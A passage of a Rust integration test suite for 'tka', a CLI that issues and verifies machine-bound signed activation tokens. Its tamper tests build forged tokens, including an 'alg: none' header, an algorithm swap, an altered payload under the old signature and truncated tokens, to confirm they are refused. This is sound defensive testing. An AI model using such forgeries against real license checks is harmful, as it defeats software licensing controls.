//! Behaviour of the `tka` command-line tool, end to end through the binary.
//!
//! Every test works in its own temporary directory: a fake system root for
//! machine identity (`TKA_SYSROOT`), its own activation store (`TKA_STORE`),
//! its own issuer home. Nothing reads the real machine, the real store or the
//! user's home. Failures are checked for the exit code, the exact start of the
//! `error:` line and that nothing stored changed.

mod tools;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine;
use serde_json::Value;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

mod sandbox;
mod softhsm;

use sandbox::{run, Run, Sandbox, MACHINE_B, PASS, PRODUCT};

/// What the tests here do on top of the shared sandbox.
trait CliSandbox {
    fn issuer(&self, rel: &str) -> PathBuf;
    fn issued(&self) -> PathBuf;
}

impl CliSandbox for Sandbox {
    /// `tka issuer init` into `rel` (fast 2048-bit keys); returns the home path.
    #[track_caller]
    fn issuer(&self, rel: &str) -> PathBuf {
        let home = self.path(rel);
        let out = self.ok(&[
            "issuer",
            "init",
            "--org",
            "tka",
            "--home",
            home.to_str().unwrap(),
            "--root-bits",
            "2048",
            "--ca-bits",
            "2048",
        ]);
        let root = out.lines().find_map(|l| l.strip_prefix("root: ")).expect("issuer init prints `root: PATH`");
        assert_eq!(fs::canonicalize(root).unwrap(), fs::canonicalize(home.join("root.pem")).unwrap(), "{out}");
        home
    }

    /// An issuer home at `home/`, a request and a token for PRODUCT on machine A at `token.jws`.
    #[track_caller]
    fn issued(&self) -> PathBuf {
        let home = self.issuer("home");
        self.ok(&["request", "create", "--product", PRODUCT, "--out", "req.json"]);
        self.ok(&["token", "issue", "--request", "req.json", "--home", "home", "--out", "token.jws"]);
        home
    }
}

/// Asserts the exit code, that the one `error:` line on stderr starts with
/// `error: {prefix}`, and that nothing panicked.
#[track_caller]
fn assert_fails(r: &Run, code: i32, prefix: &str) {
    sandbox::assert_fails(r, code, prefix);
    assert!(!r.2.contains("panicked"), "{}", r.2);
}

fn b64(data: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(data)
}

/// Splits a compact JWS into (header JSON, payload JSON, signature part).
fn jws_parts(token: &str) -> (Value, Value, String) {
    let parts: Vec<&str> = token.trim().split('.').collect();
    assert_eq!(parts.len(), 3);
    let h = serde_json::from_slice(&URL_SAFE_NO_PAD.decode(parts[0]).unwrap()).unwrap();
    let p = serde_json::from_slice(&URL_SAFE_NO_PAD.decode(parts[1]).unwrap()).unwrap();
    (h, p, parts[2].to_string())
}

fn jws_join(header: &Value, payload: &Value, sig: &str) -> String {
    format!(
        "{}.{}.{sig}",
        b64(serde_json::to_string(header).unwrap().as_bytes()),
        b64(serde_json::to_string(payload).unwrap().as_bytes())
    )
}

fn mode(p: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    fs::metadata(p).unwrap().permissions().mode() & 0o777
}

fn set_mode(p: &Path, m: u32) {
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(p, fs::Permissions::from_mode(m)).unwrap();
}

fn claims(s: &Sandbox, token: &str) -> Value {
    let j: Value = serde_json::from_str(&s.ok(&["token", "inspect", token, "--json"])).unwrap();
    j["claims"].clone()
}

// ---------------------------------------------------------------------------
// 1. The whole flow

#[test]
fn whole_flow_issue_verify_activate_status_deactivate() {
    let s = Sandbox::new();
    let home = s.issuer("home");
    for f in ["root.key", "ca.key", "signer.key"] {
        assert_eq!(mode(&home.join(f)), 0o600, "{f}");
        assert!(s.read(&format!("home/{f}")).starts_with("-----BEGIN ENCRYPTED PRIVATE KEY-----"), "{f}");
    }
    whole_flow(&s, &home);
}

/// The same whole flow with the root, issuing CA and signer keys generated
/// on a (SoftHSM2) PKCS#11 token: no key file exists, every certificate and
/// token is signed on the token, and the tokens verify exactly like the others.
#[test]
fn whole_flow_with_keys_on_a_pkcs11_token() {
    if !softhsm::available() {
        return;
    }
    let mut s = Sandbox::new();
    let hsm = softhsm::SoftHsm::new(&["tka-flow"]);
    let uri = hsm.uri("tka-flow", None);
    s.softhsm2_conf = Some(hsm.conf());
    let home = s.path("home");
    let h = home.to_str().unwrap();
    let out = s.ok(&[
        "issuer",
        "init",
        "--org",
        "tka",
        "--home",
        h,
        "--root-bits",
        "2048",
        "--ca-bits",
        "2048",
        "--pkcs11",
        &uri,
    ]);
    assert!(out.contains("root: "), "{out}");
    for f in ["root.key", "ca.key", "signer.key"] {
        assert!(!home.join(f).exists(), "{f} must not exist: the key is on the token");
    }
    let cfg: Value = serde_json::from_str(&s.read("home/tka-issuer.json")).unwrap();
    for (field, label) in [("root_key", "tka-root"), ("ca_key", "tka-ca"), ("signer_key", "tka-signer")] {
        let v = cfg[field].as_str().unwrap();
        assert!(v.starts_with(&format!("pkcs11:token=tka-flow;object={label};id=")), "{field}: {v}");
    }
    let listed = s.ok(&[
        "pkcs11",
        "list",
        "--module",
        softhsm::module().unwrap().to_str().unwrap(),
        "--login",
        "--pin-file",
        hsm.pin_file().to_str().unwrap(),
        "--json",
    ]);
    let listed: Value = serde_json::from_str(&listed).unwrap();
    let token = listed.as_array().unwrap().iter().find(|t| t["label"] == "tka-flow").expect("token listed");
    let private: Vec<&str> = token["objects"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|o| o["type"] == "private")
        .map(|o| o["label"].as_str().unwrap())
        .collect();
    assert_eq!(private.len(), 3, "{token}");
    for l in ["tka-root", "tka-ca", "tka-signer"] {
        assert!(private.contains(&l), "{l} missing: {private:?}");
    }
    // openssl accepts the chain the token keys signed.
    let verified = Command::new("openssl")
        .args(["verify", "-CAfile", "home/root.pem", "-untrusted", "home/ca.pem", "home/signer.pem"])
        .current_dir(s.dir())
        .output();
    match verified {
        Ok(o) => assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), "home/signer.pem: OK", "{o:?}"),
        Err(_) => tools::missing("openssl", "TKA_REQUIRE_INTEROP"),
    }
    whole_flow(&s, &home);
}

/// Requests, issuance, inspection, verification and the machine side,
/// against the issuer home at `home` (keys in files or on a token).
#[track_caller]
fn whole_flow(s: &Sandbox, home: &Path) {
    // Requests: the JSON file form and the one-line text form.
    assert_eq!(s.ok(&["request", "create", "--product", PRODUCT, "--out", "req.json"]).trim(), "request: req.json");
    let req: Value = serde_json::from_str(&s.read("req.json")).unwrap();
    assert_eq!(req["product"], PRODUCT);
    let text = s.ok(&["request", "create", "--product", PRODUCT, "--text"]);
    assert!(text.len() < 400, "text request is {} bytes: {text}", text.len());
    assert_eq!(text.trim_end().lines().count(), 1, "{text:?}");
    assert_eq!(text.trim_end(), text.trim(), "{text:?}");
    s.write("req.txt", &text);
    assert_eq!(
        s.ok(&["request", "create", "--product", PRODUCT, "--text", "--out", "req2.txt"]).trim(),
        "request: req2.txt"
    );
    assert_eq!(s.read("req2.txt").lines().count(), 1);

    // Issue from both forms (file output and stdout).
    let out = s.ok(&["token", "issue", "--request", "req.json", "--home", "home", "--out", "token.jws"]);
    assert!(out.starts_with("token: token.jws\n"), "{out}");
    let from_text = s.ok(&["token", "issue", "--request", "req.txt", "--home", "home"]);
    assert_eq!(from_text.trim().split('.').count(), 3, "{from_text}");
    s.write("token2.jws", &from_text);

    // Inspect.
    let insp = s.ok(&["token", "inspect", "token.jws"]);
    assert!(insp.contains(&format!("product: {PRODUCT}")), "{insp}");
    let j: Value = serde_json::from_str(&s.ok(&["token", "inspect", "token.jws", "--json"])).unwrap();
    assert_eq!(j["claims"]["aud"], PRODUCT);
    assert_eq!(j["claims"]["sub"], req["cmid"]);
    assert_eq!(j["header"]["alg"], "PS256");
    assert_eq!(j["x5c"].as_array().unwrap().len(), 2, "signer + issuing CA");
    assert_eq!(claims(s, "token2.jws")["sub"], req["cmid"]);

    // Verify against the root file, and against a directory holding only the root.
    for tok in ["token.jws", "token2.jws"] {
        let v =
            s.ok(&["token", "verify", tok, "--trust", "home/root.pem", "--product", PRODUCT, "--machine", "current"]);
        assert!(v.starts_with("valid\n"), "{v}");
    }
    fs::create_dir(s.path("roots")).unwrap();
    fs::copy(home.join("root.pem"), s.path("roots/root.pem")).unwrap();
    let cmid = req["cmid"].as_str().unwrap();
    let v =
        s.ok(&["token", "verify", "token.jws", "--trust", "roots", "--product", PRODUCT, "--machine", cmid, "--json"]);
    let v: Value = serde_json::from_str(&v).unwrap();
    assert_eq!(v["valid"], true);
    assert_eq!(v["product"], PRODUCT);

    // The machine side: trust, activate, status, list, deactivate.
    let t = s.ok(&["trust", "add", "home/root.pem"]);
    assert!(t.starts_with("trusted: "), "{t}");
    let listed: Value = serde_json::from_str(&s.ok(&["trust", "list", "--json"])).unwrap();
    assert_eq!(listed.as_array().unwrap().len(), 1);
    let a = s.ok(&["activate", "token.jws"]);
    assert!(a.starts_with(&format!("activated: {PRODUCT}\n")), "{a}");
    let st = s.ok(&["status"]);
    assert!(st.starts_with(&format!("{PRODUCT}: activated")), "{st}");
    let st: Value = serde_json::from_str(&s.ok(&["status", "--json", "--product", PRODUCT])).unwrap();
    assert_eq!(st[0]["activated"], true, "{st}");
    assert_eq!(st[0]["product"], PRODUCT);
    let l = s.ok(&["list"]);
    assert!(l.starts_with(&format!("{PRODUCT}\tinstalled ")), "{l}");
    let l: Value = serde_json::from_str(&s.ok(&["list", "--json"])).unwrap();
    assert_eq!(l[0]["product"], PRODUCT);
    assert_eq!(l[0]["unverified_serial"], j["claims"]["jti"]);

    assert_eq!(s.ok(&["deactivate", "--product", PRODUCT]).trim(), format!("deactivated: {PRODUCT}"));
    let r = s.tka(&["status"]);
    assert_eq!(r.0, 1, "{r:?}");
    let r = s.tka(&["status", "--product", PRODUCT]);
    assert_eq!(r.0, 1, "{r:?}");
    assert!(r.1.contains("NOT activated"), "{r:?}");
}

#[test]
fn activate_reads_token_from_stdin_and_from_text() {
    let s = Sandbox::new();
    s.issued();
    s.ok(&["trust", "add", "home/root.pem"]);
    let mut c = s.cmd(&["activate", "-"]);
    c.stdin(fs::File::open(s.path("token.jws")).unwrap());
    let r = run(&mut c);
    assert_eq!(r.0, 0, "{r:?}");
    let text = s.read("token.jws");
    s.ok(&["activate", text.trim()]);
    s.ok(&["status", "--product", PRODUCT]);
}

// ---------------------------------------------------------------------------
// 2. A PKI built by hand

#[test]
fn manual_pki_key_generate_ca_and_signer() {
    let s = Sandbox::new();
    for k in ["root.key", "ca.key", "signer.key"] {
        assert_eq!(s.ok(&["key", "generate", "--bits", "2048", "--out", k]).trim(), format!("key: {k}"));
        assert_eq!(mode(&s.path(k)), 0o600, "{k}");
        assert!(s.read(k).starts_with("-----BEGIN ENCRYPTED PRIVATE KEY-----\n"), "{k}");
    }
    let out =
        s.ok(&["ca", "root", "--key", "root.key", "--subject", "CN=Manual Root,O=tka tests", "--out", "root.pem"]);
    assert!(out.starts_with("certificate: root.pem\nsubject: CN=Manual Root,O=tka tests\n"), "{out}");
    s.ok(&[
        "ca",
        "intermediate",
        "--ca-cert",
        "root.pem",
        "--ca-key",
        "root.key",
        "--key",
        "ca.key",
        "--subject",
        "CN=Manual Issuing CA",
        "--days",
        "1000",
        "--out",
        "ca.pem",
    ]);
    s.ok(&[
        "ca",
        "signer",
        "--ca-cert",
        "ca.pem",
        "--ca-key",
        "ca.key",
        "--key",
        "signer.key",
        "--subject",
        "CN=Manual Signer",
        "--days",
        "300",
        "--out",
        "signer.pem",
    ]);
    for c in ["root.pem", "ca.pem", "signer.pem"] {
        assert!(s.read(c).starts_with("-----BEGIN CERTIFICATE-----"), "{c}");
    }
    s.ok(&["request", "create", "--product", PRODUCT, "--out", "req.json"]);
    let issue = |extra: &[&str]| {
        let mut args = vec![
            "token",
            "issue",
            "--request",
            "req.json",
            "--signer-cert",
            "signer.pem",
            "--signer-key",
            "signer.key",
        ];
        args.extend_from_slice(extra);
        s.ok(&args)
    };
    issue(&["--chain", "ca.pem", "--days", "30", "--features", "export,cloud", "--out", "token.jws"]);
    let v =
        s.ok(&["token", "verify", "token.jws", "--trust", "root.pem", "--product", PRODUCT, "--machine", "current"]);
    assert!(v.starts_with("valid\n"), "{v}");
    assert!(v.contains("features: export,cloud"), "{v}");
    assert!(v.contains("signer: CN=Manual Signer"), "{v}");
    // Without --chain the issuing CA is missing: the path cannot reach the root.
    issue(&["--out", "nochain.jws"]);
    let r = s.tka(&["token", "verify", "nochain.jws", "--trust", "root.pem"]);
    assert_fails(&r, 1, "certificate chain does not lead to a trusted root");
}

// ---------------------------------------------------------------------------
// 3. Bad inputs

#[test]
fn tampered_token_is_refused_and_not_installed() {
    let s = Sandbox::new();
    s.issued();
    s.ok(&["trust", "add", "home/root.pem"]);
    let token = s.read("token.jws");
    let (h, mut p, sig) = jws_parts(&token);

    // A well-formed payload with one more feature: the signature no longer matches.
    p["tka"]["features"] = serde_json::json!(["everything"]);
    s.write("more.jws", jws_join(&h, &p, &sig));
    let before = s.snapshot("store");
    let r = s.tka(&["token", "verify", "more.jws", "--trust", "home/root.pem"]);
    assert_fails(&r, 1, "token signature does not verify with the signer certificate's key");
    let r = s.tka(&["activate", "more.jws"]);
    assert_fails(&r, 1, "token signature does not verify");
    assert_eq!(s.snapshot("store"), before);

    // One character of the payload flipped: refused whatever it decodes to.
    let parts: Vec<&str> = token.trim().split('.').collect();
    let mut payload: Vec<char> = parts[1].chars().collect();
    let i = payload.len() / 2;
    payload[i] = if payload[i] == 'A' { 'B' } else { 'A' };
    let flipped = format!("{}.{}.{}", parts[0], payload.iter().collect::<String>(), parts[2]);
    s.write("flipped.jws", &flipped);
    let r = s.tka(&["token", "verify", "flipped.jws", "--trust", "home/root.pem"]);
    assert_eq!(r.0, 1, "{r:?}");
    assert!(
        r.2.starts_with("error: malformed token payload") || r.2.starts_with("error: token signature does not verify"),
        "{r:?}"
    );
    let r = s.tka(&["activate", "flipped.jws"]);
    assert_eq!(r.0, 1, "{r:?}");
    assert_eq!(s.snapshot("store"), before);

    // The header: alg "none" with the signature stripped.
    let mut none = h.clone();
    none["alg"] = "none".into();
    s.write("none.jws", format!("{}.{}.", b64(serde_json::to_string(&none).unwrap().as_bytes()), parts[1]));
    let r = s.tka(&["token", "verify", "none.jws", "--trust", "home/root.pem"]);
    assert_eq!(r.0, 1, "{r:?}");
    assert!(r.2.starts_with("error: ") && r.2.contains("none"), "{r:?}");

    // PS256 -> RS256 swap in the header.
    let mut swapped = h.clone();
    swapped["alg"] = "RS256".into();
    s.write("swap.jws", format!("{}.{}.{}", b64(serde_json::to_string(&swapped).unwrap().as_bytes()), parts[1], sig));
    let r = s.tka(&["token", "verify", "swap.jws", "--trust", "home/root.pem"]);
    assert_fails(&r, 1, "token signature does not verify");
    assert_eq!(s.snapshot("store"), before);
}

#[test]
fn token_for_another_product_is_refused() {
    let s = Sandbox::new();
    s.issued();
    let r = s.tka(&["token", "verify", "token.jws", "--trust", "home/root.pem", "--product", "other-product"]);
    assert_fails(&r, 1, &format!("wrong product: expected \"other-product\", token is for \"{PRODUCT}\""));
    let r =
        s.tka(&["token", "verify", "token.jws", "--trust", "home/root.pem", "--product", "other-product", "--json"]);
    assert_eq!(r.0, 1);
    let j: Value = serde_json::from_str(&r.1).unwrap();
    assert_eq!(j["valid"], false);
    assert_eq!(j["kind"], "WrongProduct");
}

#[test]
fn token_on_another_machine_is_refused_and_store_unchanged() {
    let s = Sandbox::new();
    s.issued();
    s.ok(&["trust", "add", "home/root.pem"]);
    let before = s.snapshot("store");
    let sysroot_b = s.add_machine("sysroot-b", MACHINE_B);
    let machine_b = |args: &[&str]| run(s.cmd(args).env("TKA_SYSROOT", &sysroot_b));

    let r = machine_b(&["token", "verify", "token.jws", "--trust", "home/root.pem", "--machine", "current"]);
    assert_fails(&r, 1, "token is bound to machine ");
    let r = machine_b(&["activate", "token.jws"]);
    assert_fails(&r, 1, "token is bound to machine ");
    assert_eq!(s.snapshot("store"), before);
    let r = machine_b(&["status", "--product", PRODUCT]);
    assert_eq!(r.0, 1, "{r:?}");

    // A CMID given by hand that is not the token's.
    let other = machine_b(&["machine", "id", "--product", PRODUCT, "--json"]);
    let other: Value = serde_json::from_str(&other.1).unwrap();
    let cmid = other["cmid"].as_str().unwrap();
    let r = s.tka(&["token", "verify", "token.jws", "--trust", "home/root.pem", "--machine", cmid]);
    assert_fails(&r, 1, "token is bound to machine ");
}

#[test]
fn untrusted_root_is_refused() {
    let s = Sandbox::new();
    s.issued();
    s.issuer("other");
    let r = s.tka(&["token", "verify", "token.jws", "--trust", "other/root.pem"]);
    assert_fails(&r, 1, "certificate chain does not lead to a trusted root");
    fs::create_dir(s.path("roots")).unwrap();
    fs::copy(s.path("other/root.pem"), s.path("roots/other.pem")).unwrap();
    let r = s.tka(&["token", "verify", "token.jws", "--trust", "roots"]);
    assert_fails(&r, 1, "certificate chain does not lead to a trusted root");

    // A store that trusts only the other root does not install the token.
    s.ok(&["trust", "add", "other/root.pem"]);
    let before = s.snapshot("store");
    let r = s.tka(&["activate", "token.jws"]);
    assert_fails(&r, 1, "certificate chain does not lead to a trusted root");
    assert_eq!(s.snapshot("store"), before);
}

#[test]
fn truncated_and_non_base64_tokens_are_refused() {
    let s = Sandbox::new();
    s.issued();
    s.ok(&["trust", "add", "home/root.pem"]);
    let token = s.read("token.jws").trim().to_string();
    let parts: Vec<&str> = token.split('.').collect();
    let mut short_sig = URL_SAFE_NO_PAD.decode(parts[2]).unwrap();
    short_sig.truncate(short_sig.len() - 16);
    let cases = [
        // Text cut or mistyped is named as such before it is decoded (tests/ux.rs).
        ("half.jws", token[..token.len() / 2].to_string(), "malformed token"),
        ("cutsig.jws", token[..token.len() - 41].to_string(), "malformed token: the text ends early"),
        (
            "shortsig.jws",
            format!("{}.{}.{}", parts[0], parts[1], b64(&short_sig)),
            "malformed token: the text ends early",
        ),
        ("bad64.jws", format!("{}.{}!!.{}", parts[0], parts[1], parts[2]), "malformed token: character '!'"),
        ("hdr64.jws", format!("{}*.{}.{}", parts[0], parts[1], parts[2]), "malformed token: character '*'"),
        ("empty.jws", String::new(), "malformed token"),
        ("binary.jws", "\u{0}\u{1}\u{2}..\u{3}".into(), "malformed token"),
    ];
    let before = s.snapshot("store");
    for (file, content, prefix) in cases {
        s.write(file, &content);
        let r = s.tka(&["token", "verify", file, "--trust", "home/root.pem"]);
        assert_fails(&r, 1, prefix);
        let r = s.tka(&["activate", file]);
        assert_fails(&r, 1, prefix);
        let r = s.tka(&["token", "inspect", file]);
        assert_fails(&r, 1, prefix);
    }
    assert_eq!(s.snapshot("store"), before);
}

#[test]
fn huge_token_file_is_refused_unread() {
    let s = Sandbox::new();
    s.issued();
    s.ok(&["trust", "add", "home/root.pem"]);
    // 1 TiB (sparse): no command can read it whole, in memory or within
    // the guard's 20 s, so a refusal for its size shows a bounded read.
    let f = fs::File::create(s.path("huge.jws")).unwrap();
    f.set_len(1 << 40).unwrap();
    drop(f);
    let before = s.snapshot("store");
    for args in [
        &["token", "verify", "huge.jws", "--trust", "home/root.pem"][..],
        &["token", "inspect", "huge.jws"][..],
        &["activate", "huge.jws"][..],
    ] {
        let r = s.tka_guarded(args);
        assert_fails(&r, 1, "token is larger than the 65536-byte limit");
    }
    assert_eq!(s.snapshot("store"), before);
    // A huge request file on the issuer side: an error in the input (exit 2).
    let r = s.tka_guarded(&["token", "issue", "--request", "huge.jws", "--home", "home", "--out", "t.jws"]);
    assert_fails(&r, 2, "request is larger than the");
    assert!(!s.path("t.jws").exists());
}

#[test]
fn wrong_passphrase_is_a_usage_error() {
    let s = Sandbox::new();
    s.issued();
    let before = s.snapshot("home");
    let r = run(s
        .cmd(&["token", "issue", "--request", "req.json", "--home", "home", "--out", "t.jws"])
        .env("TKA_PASSPHRASE", "not the passphrase"));
    assert_fails(&r, 2, "wrong passphrase for home/signer.key");
    assert!(!s.path("t.jws").exists());
    // Also from --passphrase-file, which wins over the environment.
    s.write_secret("wrong.txt", "nope\n");
    let ca_root = |passphrase_file: &str| {
        s.cmd(&[
            "ca",
            "root",
            "--key",
            "home/root.key",
            "--subject",
            "CN=x",
            "--out",
            "r.pem",
            "--passphrase-file",
            passphrase_file,
        ])
    };
    let r = run(&mut ca_root("wrong.txt"));
    assert_fails(&r, 2, "wrong passphrase for home/root.key");
    assert!(r.2.contains("wrong passphrase"));
    assert!(!s.path("r.pem").exists());
    // The right one from a file works even with a wrong environment variable.
    s.write_secret("right.txt", format!("{PASS}\n"));
    let r = run(ca_root("right.txt").env("TKA_PASSPHRASE", "not the passphrase"));
    assert_eq!(r.0, 0, "{r:?}");
    assert_eq!(s.snapshot("home"), before);
}

#[test]
fn encrypted_key_without_passphrase_source_is_a_usage_error() {
    let s = Sandbox::new();
    s.issued();
    let before = s.snapshot("home");
    let r = run(s
        .cmd(&["token", "issue", "--request", "req.json", "--home", "home", "--out", "t.jws"])
        .env_remove("TKA_PASSPHRASE"));
    assert_fails(&r, 2, "home/signer.key is encrypted and no passphrase was given");
    assert!(!s.path("t.jws").exists());
    let r = run(s
        .cmd(&["ca", "root", "--key", "home/root.key", "--subject", "CN=x", "--out", "r.pem"])
        .env("TKA_PASSPHRASE", ""));
    assert_fails(&r, 2, "home/root.key is encrypted and no passphrase was given");
    assert!(!s.path("r.pem").exists());
    assert_eq!(s.snapshot("home"), before);
}

#[test]
fn existing_output_files_are_refused_and_kept_unless_forced() {
    let s = Sandbox::new();
    s.issued();
    let cases: [(&str, Vec<&str>); 5] = [
        ("k.out", vec!["key", "generate", "--bits", "2048", "--out", "k.out"]),
        ("root.out", vec!["ca", "root", "--key", "home/root.key", "--subject", "CN=Again", "--out", "root.out"]),
        ("token.out", vec!["token", "issue", "--request", "req.json", "--home", "home", "--out", "token.out"]),
        ("req.out", vec!["request", "create", "--product", PRODUCT, "--out", "req.out"]),
        ("reqtext.out", vec!["request", "create", "--product", PRODUCT, "--text", "--out", "reqtext.out"]),
    ];
    for (file, args) in &cases {
        s.write(file, "precious\n");
        set_mode(&s.path(file), 0o644);
        let r = s.tka(args);
        assert_fails(&r, 2, &format!("{file} already exists"));
        assert_eq!(s.read(file), "precious\n", "{file}");
        let mut forced = args.clone();
        forced.push("--force");
        s.ok(&forced);
        let now = s.read(file);
        assert_ne!(now, "precious\n", "{file}");
        assert!(
            now.starts_with("-----BEGIN") || now.starts_with('{') || now.starts_with("TKAR") || now.contains('.'),
            "{file}: {now}"
        );
    }
    assert_eq!(mode(&s.path("k.out")), 0o600, "a forced key is still private");
    assert!(s.read("k.out").starts_with("-----BEGIN ENCRYPTED PRIVATE KEY-----"));

    // --force does not delete the old file when the command fails before writing.
    s.write("token.out", "precious\n");
    let r = run(s
        .cmd(&["token", "issue", "--request", "req.json", "--home", "home", "--out", "token.out", "--force"])
        .env("TKA_PASSPHRASE", "wrong"));
    assert_fails(&r, 2, "wrong passphrase");
    assert_eq!(s.read("token.out"), "precious\n");
    let r = s.tka(&[
        "token",
        "issue",
        "--request",
        "req.json",
        "--home",
        "home",
        "--out",
        "token.out",
        "--force",
        "--days",
        "5000",
    ]);
    assert_fails(&r, 1, "token valid until");
    assert_eq!(s.read("token.out"), "precious\n");
}

#[test]
fn issuer_init_refuses_a_non_empty_home() {
    let s = Sandbox::new();
    let home = s.issuer("home");
    let before = s.snapshot("home");
    let r = s.tka(&[
        "issuer",
        "init",
        "--org",
        "tka",
        "--home",
        home.to_str().unwrap(),
        "--root-bits",
        "2048",
        "--ca-bits",
        "2048",
    ]);
    assert_eq!(r.0, 2, "{r:?}");
    assert!(
        r.2.starts_with("error: ")
            && r.2.contains("is not empty: an issuer home is created in a new or empty directory"),
        "{r:?}"
    );
    assert_eq!(s.snapshot("home"), before);
}

#[test]
fn issuer_init_existing_home_hint_names_a_real_option() {
    let s = Sandbox::new();
    let home = s.issuer("home");
    let r = s.tka(&[
        "issuer",
        "init",
        "--org",
        "tka",
        "--home",
        home.to_str().unwrap(),
        "--root-bits",
        "2048",
        "--ca-bits",
        "2048",
    ]);
    assert_eq!(r.0, 2, "{r:?}");
    if r.2.contains("--force") {
        let r2 = s.tka(&[
            "issuer",
            "init",
            "--home",
            home.to_str().unwrap(),
            "--root-bits",
            "2048",
            "--ca-bits",
            "2048",
            "--force",
        ]);
        assert_ne!(r2.2.lines().next().unwrap_or(""), "error: unexpected argument '--force' found", "hint: {}", r.2);
    }
}

#[test]
fn group_readable_key_is_refused_unless_allowed() {
    let s = Sandbox::new();
    s.ok(&["key", "generate", "--bits", "2048", "--out", "root.key"]);
    set_mode(&s.path("root.key"), 0o644);
    let r = s.tka(&["ca", "root", "--key", "root.key", "--subject", "CN=Loose", "--out", "root.pem"]);
    assert_fails(&r, 2, "private key root.key has permissions 0644");
    assert!(r.2.contains("permissions"), "{r:?}");
    assert!(!s.path("root.pem").exists());
    let out = s.ok(&[
        "ca",
        "root",
        "--key",
        "root.key",
        "--subject",
        "CN=Loose",
        "--out",
        "root.pem",
        "--insecure-key-permissions",
    ]);
    assert!(out.starts_with("certificate: root.pem"), "{out}");
    assert_eq!(mode(&s.path("root.key")), 0o644, "tka does not silently chmod the user's key");

    // The same check for the key of an issuer home.
    s.issued();
    set_mode(&s.path("home/signer.key"), 0o640);
    let r = s.tka(&["token", "issue", "--request", "req.json", "--home", "home", "--out", "t.jws"]);
    assert_eq!(r.0, 2, "{r:?}");
    assert!(r.2.contains("signer.key has permissions 0640"), "{r:?}");
    s.ok(&[
        "token",
        "issue",
        "--request",
        "req.json",
        "--home",
        "home",
        "--out",
        "t.jws",
        "--insecure-key-permissions",
    ]);
}

#[test]
fn token_outliving_its_signer_is_refused() {
    let s = Sandbox::new();
    s.issued();
    let help = s.ok(&["token", "issue", "--help"]);
    assert!(help.contains("\n  1  refused (e.g. the token would outlive its signer, "), "{help}");
    let r = s.tka(&["token", "issue", "--request", "req.json", "--home", "home", "--days", "5000", "--out", "t.jws"]);
    assert_fails(&r, 1, "token valid until ");
    assert!(r.2.contains("outlives its signer certificate"), "{r:?}");
    assert!(!s.path("t.jws").exists());
    // A perpetual token is bounded by the chain, so it is allowed.
    let out = s.ok(&["token", "issue", "--request", "req.json", "--home", "home", "--perpetual", "--out", "p.jws"]);
    assert!(out.contains("expires: never"), "{out}");
}

/// `exp - nbf`, `grace` and `renew_after - iat` of a token file, from its payload.
fn lifetimes(s: &Sandbox, token: &str) -> (i64, i64, i64) {
    let (_, p, _) = jws_parts(&s.read(token));
    let n = |k: &str| p[k].as_i64().unwrap_or_else(|| panic!("{k} in {p}"));
    (n("exp") - n("nbf"), p["tka"]["grace"].as_i64().unwrap(), p["tka"]["renew_after"].as_i64().unwrap() - n("iat"))
}

#[test]
fn valid_for_grace_and_renew_after_take_durations() {
    let s = Sandbox::new();
    s.issued();
    let issue = |out: &str, extra: &[&str]| {
        let mut args = vec!["token", "issue", "--request", "req.json", "--home", "home", "--out", out];
        args.extend_from_slice(extra);
        s.tka(&args)
    };
    let ok = |out: &str, extra: &[&str]| {
        let r = issue(out, extra);
        assert_eq!(r.0, 0, "{r:?}");
        lifetimes(&s, out)
    };
    assert_eq!(ok("2h.jws", &["--valid-for", "2h"]), (7200, 0, 4800));
    assert_eq!(ok("90m.jws", &["--valid-for", "90m"]).0, 5400);
    assert_eq!(ok("3600s.jws", &["--valid-for", "3600s"]).0, 3600);
    assert_eq!(ok("1w.jws", &["--valid-for", "1w"]).0, 7 * 86_400);
    assert_eq!(ok("days.jws", &["--days", "3"]).0, 3 * 86_400);
    assert_eq!(ok("grace.jws", &["--valid-for", "1d", "--grace", "12h"]), (86_400, 43_200, 57_600));
    assert_eq!(ok("grace-days.jws", &["--days", "10", "--grace-days", "2"]).1, 2 * 86_400);
    assert_eq!(ok("renew.jws", &["--valid-for", "2h", "--renew-after", "90m"]).2, 5400);
    // Below a minute: the library refuses, with its own words, and nothing is
    // written. (Signed without a ledger here: `Ledger::issue` still reports
    // every refusal as a policy refusal, exit 1.)
    let direct = |out: &str, extra: &[&str]| {
        let mut args = vec!["token", "issue", "--request", "req.json", "--out", out, "--signer-cert"];
        args.extend_from_slice(&["home/signer.pem", "--signer-key", "home/signer.key", "--chain", "home/ca.pem"]);
        args.extend_from_slice(extra);
        s.tka(&args)
    };
    let r = direct("30s.jws", &["--valid-for", "30s"]);
    assert_fails(&r, 2, "invalid token lifetime: 30 s is shorter than the minimum of 60 s");
    assert!(!s.path("30s.jws").exists());
    let r = direct("late.jws", &["--valid-for", "1h", "--renew-after", "2h"]);
    assert_fails(&r, 2, "invalid renewal time: 7200 s after issuance is not within the token's lifetime");
    let r = issue("30s.jws", &["--valid-for", "30s"]);
    assert!(r.2.starts_with("error: invalid token lifetime: 30 s is shorter than the minimum of 60 s\n"), "{r:?}");
    assert!(!s.path("30s.jws").exists());
    assert_eq!(ok("60s.jws", &["--valid-for", "60s"]).0, 60);
    // One lifetime only, refused by the argument parser.
    for extra in [&["--valid-for", "2h", "--days", "3"][..], &["--valid-for", "2h", "--perpetual"][..]] {
        let r = issue("both.jws", extra);
        assert_eq!(r.0, 2, "{r:?}");
        assert!(r.2.contains("cannot be used with"), "{r:?}");
    }
    let r = issue("both.jws", &["--grace", "12h", "--grace-days", "1"]);
    assert_eq!(r.0, 2, "{r:?}");
    assert!(r.2.contains("cannot be used with"), "{r:?}");
    for bad in ["2", "2x", "1.5h", "h"] {
        let r = issue("bad.jws", &["--valid-for", bad]);
        assert_eq!(r.0, 2, "{bad}: {r:?}");
        assert!(r.2.contains("invalid value"), "{bad}: {r:?}");
    }
    assert!(!s.path("both.jws").exists() && !s.path("bad.jws").exists());
}

#[test]
fn insecure_no_passphrase_writes_a_plaintext_key() {
    let s = Sandbox::new();
    let out = run(s
        .cmd(&["key", "generate", "--bits", "2048", "--out", "plain.key", "--insecure-no-passphrase"])
        .env_remove("TKA_PASSPHRASE"));
    assert_eq!(out.0, 0, "{out:?}");
